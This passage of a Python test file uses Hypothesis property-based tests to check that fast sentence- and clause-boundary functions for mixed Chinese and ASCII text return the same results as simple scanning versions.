        dot = text.rfind(".", a + 1, dot)
    a = max(a, dot) + 1
    m = _SENT_END.search(text, pos)
    return a, (m.start() if m else len(text))


@settings(max_examples=150, deadline=None)
@given(text=st.text(alphabet=st.sampled_from(list("。！？；!?;\n.，,：:a1２巡察年以来今去2023届市委区第三巡察组办全县")),
                    max_size=120), data=st.data())
def test_binary_searched_bounds_and_scopes_equal_the_scans(text, data):
    from helpers.figures.metrics import BODY, PERIOD, _clause_bounds, _last_match, _sentence_bounds

    pos = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(pos, len(text)))
    assert _sentence_bounds(text, pos) == _sentence_bounds_by_scanning(text, pos)
    a = max(text.rfind(c, 0, pos) for c in "，,；;。！？：:\n") + 1
    cands = [i for i in (text.find(c, end) for c in "，,；;。！？\n") if i >= 0]
    assert _clause_bounds(text, pos, end) == (a, min(cands) if cands else len(text))
    sa = _sentence_bounds(text, pos)[0]
    for pattern in (PERIOD, BODY):
        found = [m.group(0) for m in pattern.finditer(text, sa, pos)]
        assert _last_match(pattern, text, sa, pos) == (found[-1] if found else "")
